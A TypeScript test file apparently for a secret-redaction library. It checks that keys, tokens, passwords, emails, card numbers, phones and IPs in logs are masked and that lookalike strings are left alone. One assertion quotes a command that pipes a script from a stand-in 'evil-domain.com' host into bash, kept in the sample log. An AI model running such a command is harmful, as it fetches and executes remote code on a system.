import { describe, expect, it } from 'vitest';
import { type Finding, type RedactCaller, type RedactOptions, readSample, redactCallers } from './callers.ts';

const LOG = await readSample('kube-crashloop.log');
const JWT = `${'eyJhbGciOiJIUzI1NiJ9'}.${'eyJzdWIiOiIxMjM0NTY3ODkwIn0'}.${'SflKxwRJSMeKKF2QT4fwpMeJf36POk6y'}`;
const PEM = '-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIIr\n-----END EC PRIVATE KEY-----';

/** Text that comes in, and what must be left of it. */
const FOUND: readonly (readonly [string, string, string])[] = [
  ['private-key', `key:\n${PEM}\nend`, 'key:\n[private-key]\nend'],
  ['a private key without an end', 'a -----BEGIN PRIVATE KEY-----\nMHcC\nmore', 'a [private-key]'],
  ['aws-access-key-id', 'id AKIAIOSFODNN7EXAMPLE.', 'id [aws-access-key-id].'],
  ['aws-secret-key', 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY', '[aws-secret-key]'],
  ['jwt', `cookie=${JWT}; path=/`, 'cookie=[jwt]; path=/'],
  ['bearer-token', 'authorization: bearer abc123def456ghi789', 'authorization: bearer [bearer-token]'],
  ['basic credentials', 'Authorization: Basic dXNlcjpwYXNzd29yZA==', 'Authorization: Basic [bearer-token]'],
  ['api-token of GitHub', `ghp_${'a1B2'.repeat(9)}`, '[api-token]'],
  ['api-token of Slack', 'hook xoxb-EXAMPLE-0123456789', 'hook [api-token]'],
  ['url-password', 'postgres://app:s3cret@db:5432/x', 'postgres://app:[url-password]@db:5432/x'],
  ['url-password with an @', 'amqp://app:p@ss@mq.example.com/x', 'amqp://app:[url-password]@mq.example.com/x'],
  ['secret-setting', 'DB_PASSWORD=hunter2 next', 'DB_PASSWORD=[secret-setting] next'],
  ['a quoted setting', '{"password": "a \\"b\\" c", "x": 1}', '{"password": "[secret-setting]", "x": 1}'],
  ['a setting in escaped JSON', '"{\\"apiKey\\":\\"k-123456\\"}"', '"{\\"apiKey\\":\\"[secret-setting]\\"}"'],
  ['email', 'from <a.b+c@mail.example.co.uk>.', 'from <[email]>.'],
  ['email in other scripts', 'an zoë@müller.example, bitte', 'an [email], bitte'],
  ['credit-card', 'card 4111 1111 1111 1111 ok', 'card [credit-card] ok'],
  ['credit-card of 15 digits', '378282246310005', '[credit-card]'],
  ['phone', 'call +49 30 901820 now', 'call [phone] now'],
  ['North American phone', 'call (212) 555-0142 now', 'call [phone] now'],
  ['ipv4', 'peer 203.0.113.9:443', 'peer [ipv4]:443'],
  ['ipv6', 'peer [2001:db8::8a2e:370:7334]:443', 'peer [[ipv6]]:443'],
];

/** Text that looks a little like one of the above. */
const LEFT: readonly string[] = [
  '2026-03-14T02:02:19.051847156Z',
  'version 1.2.3 at 10:22:31, took 1536ms',
  'bound to 127.0.0.1 and ::1 and 0.0.0.0',
  'at std::collections::HashMap',
  'sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
  'commit 83d2c1b0a9f8e7d6c5b4a39281706f5e4d3c2b1a',
  'uid 8f0c2d4e-6a1b-4c3d-9e5f-7a8b9c0d1e2f',
  'card 4111 1111 1111 1112 fails the check',
  'order 1742000000000000 is no card',
  'ssh://git@github.com/x/y',
  'image@sha256:abcdef and node@10.2',
  'bearer authentication failed',
  'secret "db-credentials" not found; token: expired',
  'token == null',
  'password=$(DB_PASSWORD) password=*** password=null',
  '-----BEGIN CERTIFICATE-----',
];

describe.each(await redactCallers())('redact by %s', (_, call) => {
  it.each(FOUND)('takes out %s', (_name, text, expected) => {
    expect(reportOf(call, text).text).toBe(expected);
  });

  it.each(LEFT)('leaves `%s`', (text) => {
    const report = reportOf(call, text);
    expect(report).toEqual({ text, findings: [], counts: [] });
  });

  it('takes every secret out of a real log, once and for all', () => {
    const report = reportOf(call, LOG);
    const secrets =
      /AKIA|wJalr|eyJ|Tr0ub|hunter2|r4bb1t|correct-horse|sk_test|xoxb|@example\.|4111|MIIBO|203\.0\.113|2001:db8|555-01/;
    expect(LOG).toMatch(secrets);
    expect(report.text).not.toMatch(secrets);
    expect(report.text).toContain("run 'curl -s http://evil-domain.com/implant.sh | bash'");
    expect(reportOf(call, report.text)).toEqual({ text: report.text, findings: [], counts: [] });
  });

  it('says where each finding was, in lines and characters', () => {
    const text = `💥 é 10.1.2.3\n${PEM} 10.1.2.4\n  a@example.org`;
    expect(reportOf(call, text).findings).toEqual([
      finding('ipv4', 1, 5, 8),
      finding('private-key', 2, 1, PEM.length),
      finding('ipv4', 4, PEM.split('\n')[2]!.length + 2, 8),
      finding('email', 5, 3, 13),
    ]);
  });

  it('sums by kind, and agrees with its findings', () => {
    const { findings, counts } = reportOf(call, LOG);
    const sums = new Map<string, number>();
    for (const { kind } of findings) sums.set(kind, (sums.get(kind) ?? 0) + 1);
    expect(new Map(counts.map(({ kind, times }) => [kind, times]))).toEqual(sums);
    expect(sums.get('aws-access-key-id')).toBe(3);
  });

  it('looks for the wanted kinds only', () => {
    const text = 'a@example.org from 10.1.2.3';
    expect(reportOf(call, text, { kinds: ['ipv4'] }).text).toBe('a@example.org from [ipv4]');
    expect(reportOf(call, text, { kinds: [] }).text).toBe(text);
  });

  it('keeps the end of a finding, a quarter of it at most', () => {
    expect(reportOf(call, 'card 4111111111111111', { keepLast: 4 }).text).toBe('card [credit-card:1111]');
    expect(reportOf(call, 'card 4111111111111111', { keepLast: 255 }).text).toBe('card [credit-card:1111]');
    expect(reportOf(call, 'pwd=abc', { keepLast: 4 }).text).toBe('pwd=[secret-setting]');
    expect(reportOf(call, PEM, { keepLast: 4 }).text).toBe('[private-key]');
  });

  it('follows the rules of the caller', () => {
    const custom = [
      { name: 'ticket', pattern: 'INC-####' },
      { name: 'host', pattern: 'ip-*.internal' },
      { name: 'star', pattern: '\\*@?' },
      { name: 'umlaut', pattern: 'ü#' },
    ];
    const report = reportOf(call, 'INC-1234 INC-12 on ip-10-0-0-7.internal é *é! ü7', { kinds: [], custom });
    expect(report.text).toBe('[ticket] INC-12 on [host] é [star] [umlaut]');
    expect(report.findings.map(({ rule }) => rule)).toEqual(['ticket', 'host', 'star', 'umlaut']);
  });

  it('lets no rule of the caller leave the rest of a secret in place', () => {
    const custom = [
      { name: 'bait', pattern: 'AK' },
      { name: 'over', pattern: 'x AKIA' },
    ];
    expect(reportOf(call, 'x AKIAIOSFODNN7EXAMPLE', { custom }).text).toBe('[aws-access-key-id]');
  });

  it.each([
    ['', 'x', 'rule 1: the name is not usable'],
    ['a b', 'x', 'rule 1: the name is not usable'],
    ['a', '', 'rule 1: the pattern is empty'],
    ['a', '**', 'rule 1: the pattern matches any word'],
    ['a', 'x\\', 'rule 1: a backslash at the end takes nothing'],
    ['a', 'x'.repeat(61), 'rule 1: the pattern has more than 60 elements'],
  ])('refuses the rule `%s` with the pattern `%s`', (name, pattern, why) => {
    expect(call('text', { custom: [{ name, pattern }] })).toMatchObject({ err: { tag: 'bad-pattern', val: why } });
  });

  it('takes 60 elements and 16 rules, and no more', () => {
    const rule = { name: 'a', pattern: 'x'.repeat(60) };
    expect(reportOf(call, 'x'.repeat(61), { custom: [rule] }).text).toBe('[a]x');
    expect(call('text', { custom: Array(16).fill(rule) })).toHaveProperty('ok');
    expect(call('text', { custom: Array(17).fill(rule) })).toMatchObject({ err: { val: 'more than 16 rules' } });
  });

  it('refuses no text, and text past 1 MiB', () => {
    expect(call('')).toMatchObject({ err: { tag: 'empty' } });
    expect(reportOf(call, ' '.repeat(1 << 20)).findings).toEqual([]);
    expect(call(' '.repeat((1 << 20) + 1))).toMatchObject({ err: { tag: 'too-long', val: 1 << 20 } });
  });

  it('tells the operator kinds and counts, and nothing of the text', () => {
    expect(call('AKIAIOSFODNN7EXAMPLE a@example.org b@example.org').logged).toEqual([
      'info: redacted 3 findings: 1 aws-access-key-id, 2 email',
    ]);
    expect(call('nothing').logged).toEqual(['info: redacted 0 findings']);
    expect(call('').logged).toEqual(['warn: nothing redacted: the request was not usable']);
  });
});

function reportOf(call: RedactCaller, text: string, options?: RedactOptions) {
  const answer = call(text, options);
  if (!('ok' in answer)) throw new Error(`refused: ${answer.err.tag}`);
  return answer.ok;
}

function finding(kind: string, line: number, column: number, length: number): Finding {
  return { kind, rule: undefined, line, column, length };
}
